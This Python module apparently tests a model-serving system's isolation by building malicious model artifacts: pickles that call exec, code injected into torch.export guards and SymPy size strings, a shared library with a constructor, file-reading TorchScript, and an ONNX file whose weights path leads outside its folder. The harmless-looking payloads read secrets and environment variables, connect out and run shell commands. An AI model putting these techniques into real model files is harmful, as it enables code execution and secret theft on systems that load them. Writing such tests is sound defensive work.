"""Model files that run code, or read and write files, when they are loaded or run.

As a program it loads the artifacts in the folders that it is given, without any confinement, and prints what came of
each as JSON: that shows that an attack is one.
"""

from __future__ import annotations

import io
import json
import os
import shutil
import subprocess
import sys
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import torch
from onnx import TensorProto, helper
from torch import Tensor, nn

from penstock_common.manifest import Field, FieldKind, Format, Manifest, Output, Task, parse_manifest
from penstock_common.manifest import dump_manifest as dump
from penstock_inference.engine.model import LoadedModel
from penstock_inference.runners.formats import FRAMEWORKS, import_format, import_framework

SECRET = b"the secret of another model"

#: What code does once it runs: it tries four ways to a secret or out, and ends the process with what led there.
_CODE = """
import os, socket
status = {nothing}
def attempt(bit, way):
    global status
    try:
        if way():
            status += bit
    except Exception:
        pass
attempt(1, lambda: "secret" in str(dict(os.environ)) + open("/proc/self/environ").read())
attempt(2, lambda: open({secret!r}, "rb").read())
attempt(4, lambda: socket.create_connection(("127.0.0.1", {port}), 5))
attempt(8, lambda: os.system("true") == 0)
os._exit(status)
"""
#: The exit status of code that reached nothing, and of code that reached all.
NOTHING, ALL = 32, 47


class Affine(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.weight = nn.Parameter(torch.ones(3))

    def forward(self, x: Tensor) -> Tensor:
        return (x * self.weight).sum(dim=1)


class Runs:
    """A pickle of this runs the code."""

    def __init__(self, code: str) -> None:
        self._code = code

    def __reduce__(self) -> tuple[Any, ...]:
        return exec, (self._code, {})


def _manifest(format_: Format, file: str, *shape: int, datatype: str = "FP32") -> Manifest:
    return Manifest(
        format=format_,
        file=file,
        task=Task.TENSOR,
        inputs=[Field("x", FieldKind.TENSOR, "FP32", shape=[3])],
        outputs=[Output("y", datatype, shape=list(shape))],
    )


class Attacks:
    """Writes one artifact for each attack.

    Args:
        root: a folder; each artifact gets one of its own in it.
        port: of a listener that counts connections.
    """

    def __init__(self, root: Path, port: int) -> None:
        self._root = root
        self.secret = root / "secret"
        self.secret.write_bytes(SECRET)
        self._code = _CODE.format(nothing=NOTHING, secret=str(self.secret), port=port)
        self._good = root / "good.pt2"
        batch = ({0: torch.export.Dim("batch", min=1, max=4096)},)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            torch.export.save(torch.export.export(Affine(), (torch.zeros(2, 3),), dynamic_shapes=batch), self._good)

    def marker(self, name: str) -> Path:
        """The file outside its folder that an attack writes."""
        return self._root / f"written-by-{name}"

    def write_all(self) -> dict[str, Path]:
        """Return the folder of each attack by name."""
        run_code: dict[str, Callable[[dict[str, bytes]], None]] = {
            "guard": self._guard,
            "symbol": self._symbol,
            "pickled-weight": self._pickled_weight,
            "old-weights": lambda entries: self._pickle(entries, "data/weights/model.pt"),
            "pickled-constant": self._pickled_constant,
            "sample-inputs": lambda entries: self._pickle(entries, "data/sample_inputs/model.pt"),
        }
        folders = {}
        for name, change in run_code.items():
            folders[name] = self._folder(name, _manifest(Format.TORCH_EXPORT, "model.pt2"))
            self._rewrite(folders[name] / "model.pt2", change)
        if shutil.which("gcc"):
            folders["library"] = self._folder("library", _manifest(Format.TORCH_EXPORT, "model.pt2"))
            self._rewrite(folders["library"] / "model.pt2", self._library)
        folders["read-file"] = self._script("read-file", len(SECRET), "UINT8", self._read_file())
        folders["write-file"] = self._script("write-file", 3, "FP32", self._write_file())
        folders["save"] = self._script("save", 3, "FP32", self._save())
        folders["external-data"] = self._external_data()
        return folders

    def _folder(self, name: str, manifest: Manifest) -> Path:
        folder = self._root / name
        folder.mkdir()
        (folder / "model.yaml").write_text(dump(manifest))
        return folder

    def _rewrite(self, path: Path, change: Callable[[dict[str, bytes]], None]) -> None:
        """Write the good archive with changes; the names of its entries are without its root folder."""
        with zipfile.ZipFile(self._good) as good:
            root = good.namelist()[0].partition("/")[0]
            entries = {name.partition("/")[2]: good.read(name) for name in good.namelist()}
        change(entries)
        with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
            for name, data in entries.items():
                archive.writestr(f"{root}/{name}", data)

    def _guard(self, entries: dict[str, bytes]) -> None:
        """Guards are Python text, which becomes a function that each call runs."""
        program = json.loads(entries["models/model.json"])
        program["guards_code"] = [
            f"exec(bytes({list(self._code.encode())}), {{}})"
        ]  # without quotes: it is quoted itself
        entries["models/model.json"] = json.dumps(program).encode()

    def _symbol(self, entries: dict[str, bytes]) -> None:
        """Dynamic sizes are SymPy text, which ``sympify`` evaluates as Python."""
        program = json.loads(entries["models/model.json"])
        sizes = program["graph_module"]["graph"]["tensor_values"]["x"]["sizes"]
        sizes[0]["as_expr"]["expr_str"] = f"exec({self._code!r}, {{}})"
        entries["models/model.json"] = json.dumps(program).encode()

    def _pickle(self, entries: dict[str, bytes], name: str) -> None:
        """What is no plain tensor is unpickled without restrictions after the restricted way has failed."""
        buffer = io.BytesIO()
        torch.save({"weight": Runs(self._code)}, buffer)
        entries[name] = buffer.getvalue()

    def _pickled_weight(self, entries: dict[str, bytes]) -> None:
        """A weight says itself that it is a pickle."""
        config = json.loads(entries["data/weights/model_weights_config.json"])
        config["config"]["weight"] |= {"use_pickle": True, "path_name": "weight_0"}
        entries["data/weights/model_weights_config.json"] = json.dumps(config).encode()
        self._pickle(entries, "data/weights/weight_0")

    def _pickled_constant(self, entries: dict[str, bytes]) -> None:
        """An opaque constant is a bare pickle."""
        import pickle

        path = "opaque_obj_0"
        config = json.loads(entries["data/weights/model_weights_config.json"])["config"]["weight"]
        constants = {"config": {"c": config | {"use_pickle": True, "path_name": path, "tensor_meta": None}}}
        entries["data/constants/model_constants_config.json"] = json.dumps(constants).encode()
        entries[f"data/constants/{path}"] = pickle.dumps(Runs(self._code))

    def _library(self, entries: dict[str, bytes]) -> None:
        """A compiled model is a shared library, whose constructors run when it is opened."""
        source = self._root / "library.c"
        source.write_text(
            f"#include <stdio.h>\n__attribute__((constructor)) void run(void) "
            f'{{ FILE *f = fopen("{self.marker("library")}", "w"); if (f) fclose(f); }}\n'
        )
        library = self._root / "library.so"
        subprocess.run(["gcc", "-shared", "-fPIC", "-o", library, source], check=True)
        entries["data/aotinductor/model/model.wrapper.so"] = library.read_bytes()
        entries["data/aotinductor/model/model.wrapper_metadata.json"] = b'{"AOTI_DEVICE_KEY": "cpu"}'

    def _script(self, name: str, size: int, datatype: str, source: str) -> Path:
        folder = self._folder(name, _manifest(Format.TORCHSCRIPT, "model.pt", size, datatype=datatype))
        module = type(f"Script{len(name)}{name[0]}", (torch.jit.ScriptModule,), {})()  # a class has one forward
        module.define(source)
        module.save(str(folder / "model.pt"))
        return folder

    def _read_file(self) -> str:
        """An operator maps any file as a tensor."""
        return f"""
def forward(self, x):
    return torch.from_file({str(self.secret)!r}, False, {len(SECRET)}, dtype=0).expand(x.size(0), -1).clone()
"""

    def _write_file(self) -> str:
        """The same operator makes files, and writes what is written to the tensor."""
        return f"""
def forward(self, x):
    return x + torch.from_file({str(self.marker("write-file"))!r}, True, 3).fill_(1.0)
"""

    def _save(self) -> str:
        return f"""
def forward(self, x):
    torch.save(x, {str(self.marker("save"))!r})
    return x
"""

    def _external_data(self) -> Path:
        """Weights in a file beside the model, whose path leads out of the folder. ONNX Runtime itself refuses it."""
        size = len(SECRET)
        weight = TensorProto(name="w", data_type=TensorProto.UINT8, dims=[1, size], data_location=TensorProto.EXTERNAL)
        weight.external_data.add(key="location", value="../secret")
        weight.external_data.add(key="length", value=str(size))
        graph = helper.make_graph(
            [
                helper.make_node("Shape", ["x"], ["rows"], end=1),
                helper.make_node("Concat", ["rows", "one"], ["shape"], axis=0),
                helper.make_node("Expand", ["w", "shape"], ["y"]),
            ],
            "g",
            [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["n", 3])],
            [helper.make_tensor_value_info("y", TensorProto.UINT8, ["n", size])],
            [weight, helper.make_tensor("one", TensorProto.INT64, [1], [1])],
        )
        folder = self._folder("external-data", _manifest(Format.ONNX, "model.onnx", size, datatype="UINT8"))
        model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=9)
        (folder / "model.onnx").write_bytes(model.SerializeToString())
        return folder


def main() -> None:
    found: dict[str, str | int] = {}
    for folder in map(Path, sys.argv[1:]):
        manifest = parse_manifest((folder / "model.yaml").read_text())
        import_framework(FRAMEWORKS[manifest.format])
        answer = folder.parent / "answer"
        pid = os.fork()  # which the code may end
        if pid == 0:
            try:
                # Without the check of the file's kind, which refuses a compiled library.
                model = LoadedModel(manifest, import_format(manifest.format)(folder / manifest.file, manifest, 1))
                answer.write_bytes(model.run({"x": np.ones((1, 3), np.float32)})[0].tobytes())
            finally:
                os._exit(0)
        status = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
        found[folder.name] = status or (answer.read_bytes().decode("latin-1") if answer.exists() else "")
        answer.unlink(missing_ok=True)
    print(json.dumps(found))


if __name__ == "__main__":
    main()
